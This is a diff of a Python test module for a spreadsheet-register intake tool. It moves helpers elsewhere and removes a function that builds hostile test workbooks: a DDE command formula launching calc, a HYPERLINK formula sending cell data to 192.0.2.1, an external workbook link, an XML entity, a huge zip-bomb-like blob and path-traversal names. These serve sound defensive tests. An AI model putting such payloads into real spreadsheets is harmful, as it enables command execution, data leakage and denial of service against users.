@@ -3,11 +3,9 @@
 from __future__ import annotations
 
 import codecs
-import difflib
 import io
 import zipfile
-from collections.abc import Iterator, Mapping
-from dataclasses import dataclass
+from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -17,45 +15,24 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 from openpyxl.utils.exceptions import IllegalCharacterError
-from openpyxl.worksheet.worksheet import Worksheet
 
 from metodbank.intake.register.changes import What, difference
-from metodbank.intake.register.csv_edit import edited
 from metodbank.intake.register.files import file_changes
-from metodbank.intake.register.front_edit import with_value
-from metodbank.intake.register.layout import NAME, registers, sheets
+from metodbank.intake.register.layout import NAME, sheets
 from metodbank.intake.register.reading import read_workbook
-from metodbank.intake.register.taking import Taking, take
-from metodbank.intake.register.workbook import workbook_of
+from metodbank.intake.register.taking import take
 from metodbank.model.kinds import kinds
-from metodbank.rules.corpus import Corpus, read_corpus
+from metodbank.rules.corpus import read_corpus
 from metodbank.rules.settings import Settings
 from metodbank.site.settings import read_settings
 from tests.commands_help import command, small_project
 from tests.conftest import ROOT
 from tests.office import Office
+from tests.registers_help import Sent, changed_lines, columns, edit, everything, row_of, said, sent_from
+from tests.registers_spoiled import spoil
 from tests.small_bank import SmallBank
 
 CASES = yaml.safe_load((Path(__file__).parent / "registers.yml").read_text(encoding="utf-8"))
-
-
-@dataclass(frozen=True)
-class Sent:
-    """A bank nobody edits, and its workbooks as they left."""
-
-    settings: Settings
-    corpus: Corpus
-    books: dict[str, Path]
-
-
-def sent_from(settings: Settings, folder: Path) -> Sent:
-    """Write all workbooks of a bank."""
-    corpus = read_corpus(settings)
-    books = {}
-    for name, register in registers().items():
-        books[name] = folder / f"{name}.xlsx"
-        books[name].write_bytes(workbook_of(register, corpus))
-    return Sent(settings, corpus, books)
 
 
 @pytest.fixture(scope="module")
@@ -75,43 +52,6 @@ def sent(tmp_path_factory: pytest.TempPathFactory) -> Sent:
 def bank(tmp_path: Path) -> Settings:
     """A copy of the small bank to write into."""
     return SmallBank.copied(tmp_path).settings
-
-
-def columns(sheet: Worksheet) -> dict[str, int]:
-    """Column numbers by head."""
-    return {str(cell.value): cell.column for cell in sheet[1] if cell.value}
-
-
-def row_of(sheet: Worksheet, name: str) -> int:
-    """The first row whose first cell is a name."""
-    return next(int(cell.row) for cell in sheet["A"] if cell.value == name)
-
-
-def edit(book: Path, target: Path, sheet: str, cells: Mapping[Any, Any]) -> Path:
-    """Save a copy of a workbook with cells changed: by the name of the row, or its number, and the head."""
-    found = load_workbook(book)
-    heads = columns(found[sheet])
-    for (row, head), value in cells.items():
-        number = row if isinstance(row, int) else row_of(found[sheet], row)
-        found[sheet].cell(number, heads[head]).value = value
-    found.save(target)
-    return target
-
-
-def changed_lines(before: str, after: str) -> list[str]:
-    """The lines that differ, with their sign."""
-    found = difflib.unified_diff(before.splitlines(), after.splitlines(), lineterm="", n=0)
-    return [line for line in found if line[:1] in "+-" and line[:3] not in ("+++", "---")]
-
-
-def everything(root: Path) -> dict[str, bytes]:
-    """All bytes of a bank."""
-    return {str(path.relative_to(root)): path.read_bytes() for path in sorted(root.rglob("*")) if path.is_file()}
-
-
-def said(taking: Taking) -> list[str]:
-    """Problems as the goldens write them."""
-    return [f"{found.path}:{found.line}:{found.column} {found.code} {found.message}" for found in taking.problems]
 
 
 def test_a_workbook_nobody_edited_changes_nothing(demo: Sent, tmp_path: Path) -> None:
@@ -306,95 +246,6 @@ def test_a_file_changed_meanwhile_stops_everything(sent: Sent, bank: Settings, t
     assert everything(bank.root) == before
 
 
-def spoil(name: str, sent: Sent, target: Path) -> Path:
-    """Make a workbook with a mistake people make."""
-    if name == "nobody":
-        return edit(sent.books["programs"], target, "Программа. Обучено", {(2, NAME): "net-takoy"})
-    book = sent.books["people"]
-    found = load_workbook(book)
-    sheet = found["Люди"]
-    heads = columns(sheet)
-    match name:
-        case "word":
-            sheet.cell(2, heads["Категория"], "высочайшая")
-        case "no_name":
-            sheet.cell(1, 1, "Файл")
-        case "twice":
-            sheet.cell(3, 1, "p-001")
-        case "column_twice":
-            sheet.cell(1, sheet.max_column + 1, "Должность")
-        case "error":
-            sheet.cell(2, heads["Категория"], "=1/0")
-        case "merged":
-            sheet.merge_cells(start_row=2, end_row=4, start_column=heads["Категория"], end_column=heads["Категория"])
-        case "merged_names":
-            sheet.merge_cells("A2:A3")
-        case "link":
-            sheet.cell(2, heads["Категория"], '=HYPERLINK("http://192.0.2.1/?"&A2,"высшая")')
-        case "command":
-            sheet.cell(2, heads["Категория"], "=cmd|' /C calc'!A0")
-        case "reference":
-            sheet.cell(2, heads["Организация"], "shkola-33")
-        case "edited":
-            sheet.cell(2, heads["Категория"], "первая")
-        case "own":
-            sheet.cell(1, sheet.max_column + 1, "Моя пометка")
-            sheet.cell(2, sheet.max_column, "позвонить")
-            sheet.delete_cols(heads["Категория"])
-            found.create_sheet("Для себя")["A1"] = "что угодно"
-        case "outside":
-            for row, name in ((200, "../../p-900"), (201, "con")):
-                sheet.cell(row, 1, name)
-                sheet.cell(row, heads["Должность"], "учитель")
-                sheet.cell(row, heads["Организация"], "shkola-3")
-        case "not_a_workbook":
-            target.write_bytes(b"PK not a workbook")
-            return target
-        case "entities" | "bomb" | "million" | "foreign":
-            return _hostile(name, book, target)
-    found.save(target)
-    return target
-
-
-PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
-SPACE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
-LINK = f"{SPACE}/externalLink"
-FOREIGN = (
-    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
-    f'<externalBook xmlns:r="{SPACE}" r:id="rId1"/></externalLink>'
-)
-
-
-def _hostile(name: str, book: Path, target: Path) -> Path:
-    with zipfile.ZipFile(book) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
-        for part in old.namelist():
-            content = old.read(part)
-            if part == "xl/workbook.xml" and name == "entities":
-                content = content.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY a "aaaa">]>', 1)
-            if part == "xl/worksheets/sheet1.xml" and name == "million":
-                rows = b"".join(b'<row r="%d"><c r="A%d" s="1"/></row>' % (n, n) for n in range(3000, 750_000))
-                content = content.replace(b"</sheetData>", rows + b"</sheetData>")
-            if part == "xl/_rels/workbook.xml.rels" and name == "foreign":
-                line = f'<Relationship Id="rId900" Type="{LINK}" Target="externalLinks/externalLink1.xml"/>'
-                content = content.replace(b"</Relationships>", line.encode() + b"</Relationships>")
-            if part == "xl/workbook.xml" and name == "foreign":
-                line = f'<externalReferences><externalReference xmlns:r="{SPACE}" r:id="rId900"/></externalReferences>'
-                content = content.replace(b"</sheets>", b"</sheets>" + line.encode())
-            new.writestr(part, content)
-        if name == "foreign":
-            there = (
-                f'<Relationship Id="rId1" Type="{LINK}Path" Target="http://192.0.2.1/x.xlsx" TargetMode="External"/>'
-            )
-            new.writestr("xl/externalLinks/externalLink1.xml", FOREIGN)
-            new.writestr(
-                "xl/externalLinks/_rels/externalLink1.xml.rels",
-                f'<Relationships xmlns="{PACKAGE}">{there}</Relationships>',
-            )
-        if name == "bomb":
-            new.writestr("xl/media/bomb.bin", bytes(150_000_000))
-    return target
-
-
 @pytest.mark.parametrize("case", CASES, ids=lambda case: str(case["what"]))
 def test_mistakes_are_told_by_sheet_and_cell(
     case: dict[str, Any], sent: Sent, tmp_path: Path, request: pytest.FixtureRequest
@@ -407,58 +258,6 @@ def test_mistakes_are_told_by_sheet_and_cell(
     taking = take(spoil(case["spoil"], sent, tmp_path / "book.xlsx"), settings)
     assert said(taking) == case["problems"]
     assert not taking.allowed
-
-
-FRONT = """
-title: Имя  # как в приказе
-order:
-  number: "7"
-  # о чём
-  title: Старое
-valid_from: 2026-01-01
-schedule:
-  - date: 2026-02-03
-    topic: >-
-      Длинная тема,
-      в две строки
-  - {date: 2026-02-04, topic: Короткая}
-"""
-
-EDITS = [
-    (("title",), "Новое", ["-title: Имя  # как в приказе", "+title: Новое  # как в приказе"]),
-    (("order", "title"), None, ["-  title: Старое"]),
-    (("order", "date"), "2026-03-01", ["+  date: 2026-03-01"]),
-    (
-        ("schedule", 0, "topic"),
-        "Иная",
-        ["-    topic: >-", "-      Длинная тема,", "-      в две строки", "+    topic: Иная"],
-    ),
-    (("schedule", 1, "topic"), "Иная, с запятой", None),
-    (("contact", "email"), "a@example.org", ["+contact:", "+  email: a@example.org"]),
-    (("order",), None, None),
-]
-
-
-@pytest.mark.parametrize(("path", "value", "lines"), EDITS, ids=[".".join(map(str, edit[0])) for edit in EDITS])
-def test_one_value_of_a_front_matter(path: Any, value: Any, lines: list[str] | None) -> None:
-    after = with_value(FRONT, kinds()["internship"], path, value)
-    found = changed_lines(FRONT, after)
-    if lines is not None:
-        assert found == lines
-    assert "# как в приказе" in after
-
-
-@pytest.mark.parametrize(
-    ("raw", "expected"),
-    [
-        ('\ufeffА;Б\r\n"x;y";1\r\n'.encode(), '\ufeffА;Б\r\n"x;y";2\r\nя;"a;b"\r\n'.encode()),
-        ("А;Б\n1;1".encode("cp1251"), 'А;Б\n1;2\nя;"a;b"\n'.encode("cp1251")),
-        ('А;Б\n"две\nстроки";"1"\n'.encode(), 'А;Б\n"две\nстроки";"2"\nя;"a;b"\n'.encode()),
-    ],
-    ids=["BOM, CRLF, quotes", "Windows-1251 without an end", "a cell of two lines"],
-)
-def test_a_csv_keeps_its_encoding_quotes_and_ends(raw: bytes, expected: bytes) -> None:
-    assert edited(raw, ";", {2: {1: "2"}}, (), [["я", "a;b"]]) == expected
 
 
 @given(data=st.data())
